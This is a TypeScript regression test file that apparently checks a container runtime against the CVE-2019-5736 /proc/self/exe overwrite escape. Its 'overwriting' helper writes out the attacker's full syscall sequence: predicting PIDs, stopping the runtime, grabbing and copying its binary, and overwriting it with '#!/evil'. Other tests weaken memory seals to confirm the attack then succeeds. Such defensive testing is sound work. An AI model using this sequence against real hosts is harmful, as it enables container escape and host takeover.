import { createHash } from "node:crypto";
import { copyFileSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import { nativeArch } from "../../src/abi/syscalls.ts";
import { agentImage } from "../../src/agent/image.ts";
import { LOADER, LOADER_SIZE, SOCKET_AT } from "../../src/agent/layout.ts";
import { AT_FDCWD, type Call, say, writeAttacker } from "../helpers/attacker.ts";
import { grant } from "../helpers/config.ts";
import { type Bundle, RUNTIME, RUNTIME_NAME, type RunOptions } from "../helpers/suite.ts";
import { type Attempt, attacks, mustBe, ROUNDS } from "./helpers/attack.ts";

const { attack, weakened, started, bundle, run, exec, home } = attacks("own-binary");

const EXECS = Math.min(ROUNDS, 50);
const PREY = 100;
/** The attacker's descriptor of the last runtime that it has got hold of. */
const CAUGHT = 200;
const [O_RDONLY, O_WRONLY] = [0, 1];
const [SIGSTOP, SIGCONT] = [19, 18];
/** A program that is run by what the process executed last: by the runtime, when that has just entered the container. */
const RUN_BY_ITSELF = "#!/proc/self/exe\n";

/**
 * Whoever comes to be process PREY: takes what it executes, keeps it, copies it to /stolen, and writes to it as soon as
 * the kernel allows, which is when nobody executes it any more. Descriptor 1 is a file for it to say what it could do.
 */
function overwriting(): Call[] {
  const last = String(PREY - 1);
  return [
    { call: "openat", args: [AT_FDCWD, "/log", 0o2101, 0o644], into: "log" },
    { call: "dup3", args: [{ value: "log" }, 1, 0] },
    { call: "openat", args: [AT_FDCWD, "/proc/sys/kernel/ns_last_pid", O_WRONLY, 0], into: "last" },
    { label: "again", call: "pwrite64", args: [{ value: "last" }, last, last.length, 0] },
    // It executes the runtime for some microseconds: now and then it is made to stand still just then.
    { call: "kill", args: [PREY, SIGSTOP], error: "write" },
    { call: "openat", args: [AT_FDCWD, `/proc/${PREY}/exe`, O_RDONLY, 0], into: "exe" },
    { call: "kill", args: [PREY, SIGCONT] },
    { call: "dup3", args: [{ value: "exe" }, CAUGHT, 0], error: "write" },
    { call: "close", args: [{ value: "exe" }] },
    say(1, "caught"),
    { call: "pread64", args: [CAUGHT, { room: "image" }, 0x10000, 0], into: "size" },
    { call: "openat", args: [AT_FDCWD, "/stolen", 0o1101, 0o644], into: "copy" },
    { call: "write", args: [{ value: "copy" }, { room: "image" }, { value: "size" }] },
    { call: "close", args: [{ value: "copy" }] },
    {
      label: "write",
      call: "openat",
      args: [AT_FDCWD, `/proc/self/fd/${CAUGHT}`, O_WRONLY, 0],
      into: "exe",
      error: "again",
    },
    { call: "write", args: [{ value: "exe" }, "#!/evil\n", 8], error: "close" },
    say(1, "written"),
    { label: "close", call: "close", args: [{ value: "exe" }] },
    { call: "getppid", zero: "again", positive: "again" },
  ];
}

const sha256 = (path: string): string => createHash("sha256").update(readFileSync(path)).digest("hex");

/** A runtime that nobody misses: what to put before the runtime's command line, and its file. */
function copied(options: RunOptions): { through: readonly string[]; file: string } {
  const file = `${home}/own-${RUNTIME_NAME}`;
  copyFileSync(RUNTIME, file);
  writeFileSync(`${file}.sh`, `#!/bin/sh\nshift\nexec ${file} "$@"\n`, { mode: 0o755 });
  return { through: options.through ?? [`${file}.sh`], file };
}

/** A container that overwrites what it can, and programs in it that its attacker chose. */
function overwriter(through: readonly string[]): Bundle {
  return started(
    (config, at) => {
      grant(config, "CAP_CHECKPOINT_RESTORE");
      writeFileSync(`${at.rootfs}/self`, RUN_BY_ITSELF, { mode: 0o755 });
      writeAttacker(`${at.rootfs}/overwrite`, overwriting());
      config.process.args = ["/overwrite"];
      // What the runtime needs to run once more.
      for (const path of ["/usr", "/lib", "/lib64"]) {
        config.mounts.push({ destination: path, type: "bind", source: path, options: ["rbind", "ro"] });
      }
    },
    { through },
  );
}

const overwrite: Attempt = (options) => {
  const { through, file } = copied(options);
  const before = sha256(file);
  const b = overwriter(through);
  const path = `${b.rootfs}/log`;
  // The attacker begins it, sooner or later than the first exec is over.
  const log = () => (existsSync(path) ? readFileSync(path, "utf8").split("\n") : []);
  const isDone = (i: number) => log().includes("written") || (i >= EXECS && log().includes("caught"));
  for (let i = 0; i < 10 * EXECS && !isDone(i); i++) {
    for (const program of ["/self", "/proc/self/exe"]) exec(b, [program], { through });
  }
  if (!log().includes("caught")) throw new Error("the attacker never got hold of the runtime");
  return [
    ...(sha256(file) === before ? [] : [`${file} is another one`]),
    ...new Set(log().filter((line) => line === "written")),
    ...(RUNTIME_NAME === "tsrun" ? differenceFromAgent(readFileSync(`${b.rootfs}/stolen`)) : []),
  ];
};

/** A container may read the agent, which tells nothing of the host but the number of a descriptor; nothing else of tsrun. */
function differenceFromAgent(stolen: Uint8Array): string[] {
  const loader = stolen.length - LOADER_SIZE;
  const socket = new DataView(stolen.buffer, stolen.byteOffset).getUint32(loader + SOCKET_AT - LOADER, true);
  return Buffer.compare(stolen, agentImage(nativeArch, socket)) === 0 ? [] : [`${stolen.length} bytes were read`];
}

attack(
  ["CVE-2019-5736"],
  "exec of what the image says is run by /proc/self/exe: nothing is written to what the container gets hold of",
  () => {
    // The next command of the host's root would have been the container's to choose.
    mustBe([], overwrite({}));
  },
  { limit: 90_000 },
);

weakened(
  ["CVE-2019-5736"],
  "seals on the agent's memory",
  [{ file: "agent/session.ts", from: '  sys("fcntl", fd, F_ADD_SEALS, F_SEAL_SEAL_SHRINK_GROW_WRITE);\n', to: "" }],
  overwrite,
);

for (const [title, args] of [
  ["/proc/self/exe", ["/proc/self/exe"]],
  ["/proc/self/exe with arguments of the runtime", ["/proc/self/exe", "init"]],
  ["a script that /proc/self/exe is to run", ["/self"]],
] as const) {
  attack(["CVE-2019-5736"], `a container whose program is ${title} ends`, () => {
    // It would have run the host's runtime inside, to be debugged or overwritten there, or never have ended.
    const { through, file } = copied({});
    const before = sha256(file);
    const b = bundle((config, at) => {
      writeFileSync(`${at.rootfs}/self`, RUN_BY_ITSELF, { mode: 0o755 });
      config.process.args = [...args];
    });
    const { status, stdout } = run(b, { through });
    mustBe([], [...(status > 0 && status < 128 ? [] : [`status ${status}`]), ...(stdout === "" ? [] : [stdout])]);
    mustBe([before], [sha256(file)]);
  });
}
